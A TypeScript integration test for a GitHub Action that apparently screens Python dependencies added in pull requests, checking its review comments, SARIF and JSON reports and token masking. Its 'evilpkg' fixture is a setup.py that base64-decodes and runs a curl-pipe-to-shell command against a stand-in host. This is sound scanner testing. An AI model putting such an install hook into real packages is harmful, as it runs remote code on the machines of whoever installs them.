/**
 * The built Action (dist/index.js) run as a runner runs it: inputs as INPUT_* variables, an event payload
 * file, GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files, the GitHub API at GITHUB_API_URL (the OpenAPI-checked
 * stand-in) and a PEP 691 index for PyPI. No checkout: files at base and head come through the API.
 */
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GitHubStandIn } from '../support/github-server.js';
import { startPypiIndex, writeIndexFolder, type PypiIndexServer } from '../support/pypi-index.js';
import { tarArchive } from '../unpack/tar-builder.js';

const ACTION = join(process.cwd(), 'dist', 'index.js');
const BASE = 'b'.repeat(40);
const HEAD = 'c'.repeat(40);

const sdist = (name: string, version: string, setupPy: string): Uint8Array =>
  gzipSync(
    tarArchive([
      { name: `${name}-${version}/PKG-INFO`, body: `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\n` },
      { name: `${name}-${version}/setup.py`, body: setupPy },
    ]),
  );

const EVIL = `import os, base64
from setuptools import setup
os.system(base64.b64decode("Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvYSB8IHNo").decode())
setup(name='evilpkg', version='1.0')
`;

let index: PypiIndexServer;
let gh: GitHubStandIn;
let dir: string;

beforeAll(async () => {
  const folder = await writeIndexFolder({
    evilpkg: [{ filename: 'evilpkg-1.0.tar.gz', bytes: sdist('evilpkg', '1.0', EVIL) }],
    fine: [{ filename: 'fine-1.1.tar.gz', bytes: sdist('fine', '1.1', "from setuptools import setup\nsetup(name='fine', version='1.1')\n") }],
  });
  index = await startPypiIndex(folder);
  gh = await GitHubStandIn.start({
    owner: 'acme',
    repo: 'app',
    commits: {
      [BASE]: { 'requirements.txt': 'fine==1.0\n', 'README.md': '# app\n' },
      [HEAD]: { 'requirements.txt': 'fine==1.1\nevilpkg==1.0\n', 'README.md': '# app\n' },
    },
    pulls: { 7: { files: [{ filename: 'requirements.txt', status: 'modified', patch: '@@ -1 +1,2 @@\n-fine==1.0\n+fine==1.1\n+evilpkg==1.0' }] } },
    compares: { [`${BASE}...${HEAD}`]: [{ filename: 'requirements.txt', status: 'modified', patch: '@@ -1 +1,2 @@\n-fine==1.0\n+fine==1.1\n+evilpkg==1.0' }] },
  });
  dir = await mkdtemp(join(tmpdir(), 'customs-action-'));
}, 60_000);

afterAll(async () => {
  await Promise.all([index?.close(), gh?.close()]);
  if (dir) await rm(dir, { recursive: true, force: true });
});

async function runAction(inputs: Record<string, string>): Promise<{ code: number; stdout: string; outputs: string; summary: string }> {
  const event = join(dir, 'event.json');
  await writeFile(event, JSON.stringify({ number: 7, pull_request: { number: 7, base: { sha: BASE }, head: { sha: HEAD } }, repository: { full_name: 'acme/app' } }));
  await writeFile(join(dir, 'output'), '');
  await writeFile(join(dir, 'summary.md'), '');
  const env: NodeJS.ProcessEnv = {
    PATH: process.env['PATH'],
    HOME: dir,
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_EVENT_PATH: event,
    GITHUB_REPOSITORY: 'acme/app',
    GITHUB_API_URL: gh.url,
    GITHUB_OUTPUT: join(dir, 'output'),
    GITHUB_STEP_SUMMARY: join(dir, 'summary.md'),
    RUNNER_TEMP: dir,
    CUSTOMS_OSV_URL: 'off',
    'INPUT_PYPI-INDEX-URL': index.indexUrl,
    'INPUT_SARIF-FILE': join(dir, 'customs.sarif'),
    'INPUT_REPORT-FILE': join(dir, 'customs.json'),
  };
  for (const [k, v] of Object.entries(inputs)) env[`INPUT_${k.toUpperCase()}`] = v;
  const { code, stdout } = await new Promise<{ code: number; stdout: string }>((resolve) =>
    execFile(process.execPath, [ACTION], { env, cwd: dir, maxBuffer: 64 << 20 }, (err, out) => resolve({ code: err ? ((err as { code?: number }).code ?? 99) : 0, stdout: out })),
  );
  return { code, stdout, outputs: await readFile(join(dir, 'output'), 'utf8'), summary: await readFile(join(dir, 'summary.md'), 'utf8') };
}

describe('the built Action on a pull_request event', () => {
  it('fails the check, comments on the requirements line, keeps one summary, and writes SARIF and JSON', async () => {
    const r = await runAction({ token: 'ghs_test_token_value' });
    expect(gh.violations).toEqual([]);
    expect(r.code).toBe(1);
    expect(r.outputs).toMatch(/decision<<\S+\nfail\n/);
    expect(r.summary).toContain('evilpkg');
    expect(gh.reviews).toHaveLength(1);
    expect(gh.reviewComments.map((c) => [c.path, c.line])).toEqual([['requirements.txt', 2]]);
    expect(gh.issueComments).toHaveLength(1);
    expect(gh.issueComments[0]!.body).toContain('<!-- customs:summary -->');
    const sarif = JSON.parse(await readFile(join(dir, 'customs.sarif'), 'utf8')) as { runs: { results: { locations: { physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }[] }[] }[] };
    const locations = sarif.runs.flatMap((run) => run.results.map((x) => x.locations[0]!.physicalLocation));
    expect(locations.some((l) => l.artifactLocation.uri === 'requirements.txt' && l.region.startLine === 2)).toBe(true);
    const report = JSON.parse(await readFile(join(dir, 'customs.json'), 'utf8')) as { decision: string; packages: { ref: { name: string }; decision: string }[] };
    expect(report.packages.map((p) => [p.ref.name, p.decision])).toEqual([['evilpkg', 'fail'], ['fine', 'pass']]);
    // The only place the token may appear is the runner's own masking command.
    expect(r.stdout.replace(/^::add-mask::.*$/gm, '')).not.toContain('ghs_test_token_value');

    // A re-run posts no second review comment and edits the summary in place.
    const again = await runAction({ token: 'ghs_test_token_value' });
    expect(again.code).toBe(1);
    expect(gh.reviewComments).toHaveLength(1);
    expect(gh.issueComments).toHaveLength(1);
    expect(gh.violations).toEqual([]);
  }, 120_000);

  it('decides without any API call when there is no token and a local checkout is absent: it says why it cannot read files', async () => {
    const before = gh.requests.length;
    const r = await runAction({ token: '' });
    expect(gh.requests.length).toBe(before);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/No token and no local checkout/);
  }, 60_000);
});
